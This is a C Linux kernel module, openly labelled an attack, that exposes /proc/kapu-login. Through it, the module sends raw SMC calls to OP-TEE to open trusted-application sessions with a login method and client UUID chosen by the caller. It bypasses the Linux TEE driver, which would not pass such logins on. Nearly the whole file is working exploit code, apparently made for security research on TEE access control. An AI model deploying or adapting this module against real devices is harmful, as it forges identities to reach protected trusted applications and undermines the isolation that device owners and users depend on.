// SPDX-License-Identifier: Apache-2.0
/* Attack: asks OP-TEE itself for a session, with a login that Linux' driver would not pass on.
 * Write "LOGIN SERVICE CLIENT", a number and two UUIDs as 32 hexadecimal digits, to
 * /proc/kapu-login; read it for the result. */
#include <linux/arm-smccc.h>
#include <linux/hex.h>
#include <linux/io.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <linux/slab.h>
#include <linux/uaccess.h>

/* OP-TEE's SMC interface (optee_smc.h) and messages (optee_msg.h) */
#define CALL_WITH_ARG 0x32000004
#define CALL_RETURN_FROM_RPC 0x32000003
#define RPC_ALLOC 0xffff0000 /* for a call that must wait: it gets no memory, and tries again */
#define RPC_FOREIGN_INTERRUPT 0xffff0004
#define META_VALUE_INPUT 0x101
#define OPEN_SESSION 0

struct message {
    u32 command, function, session, cancel, pad, result, origin, params;
    struct {
        u64 kind;
        u8 uuid[16];
        u64 login;
    } param[2];
};

static u32 result;

static void ask(struct message *m)
{
    const phys_addr_t at = virt_to_phys(m);
    struct arm_smccc_res res;

    arm_smccc_smc(CALL_WITH_ARG, upper_32_bits(at), lower_32_bits(at), 0, 0, 0, 0, 0, &res);
    while ((u32)res.a0 == RPC_FOREIGN_INTERRUPT || (u32)res.a0 == RPC_ALLOC) {
        bool alloc = (u32)res.a0 == RPC_ALLOC;

        arm_smccc_smc(CALL_RETURN_FROM_RPC, alloc ? 0 : res.a1, alloc ? 0 : res.a2, res.a3, 0, 0, 0,
                      0, &res);
        cond_resched();
    }
    result = res.a0 == 0 ? m->result : (u32)res.a0;
}

static ssize_t login_write(struct file *file, const char __user *from, size_t n, loff_t *at)
{
    struct message *m = (struct message *)get_zeroed_page(GFP_KERNEL);
    char text[128] = {}, service[33], client[33];
    unsigned int login;

    if (m == NULL || n >= sizeof(text) || copy_from_user(text, from, n) != 0 ||
        sscanf(text, "%x %32s %32s", &login, service, client) != 3 ||
        hex2bin(m->param[0].uuid, service, 16) != 0 || hex2bin(m->param[1].uuid, client, 16) != 0)
        return -EINVAL;
    m->command = OPEN_SESSION;
    m->params = 2;
    m->param[0].kind = m->param[1].kind = META_VALUE_INPUT;
    m->param[1].login = login;
    ask(m);
    free_page((unsigned long)m);
    return n;
}

static int show(struct seq_file *s, void *unused)
{
    seq_printf(s, "0x%08x\n", result);
    return 0;
}

static int login_open(struct inode *inode, struct file *file)
{
    return single_open(file, show, NULL);
}

static const struct proc_ops ops = {
    .proc_open = login_open,
    .proc_read = seq_read,
    .proc_write = login_write,
    .proc_lseek = seq_lseek,
    .proc_release = single_release,
};

static int __init login_init(void)
{
    return proc_create("kapu-login", 0600, NULL, &ops) != NULL ? 0 : -ENOMEM;
}

static void __exit login_exit(void)
{
    remove_proc_entry("kapu-login", NULL);
}

module_init(login_init);
module_exit(login_exit);
MODULE_DESCRIPTION("kapu attack: forged logins");
MODULE_LICENSE("GPL");
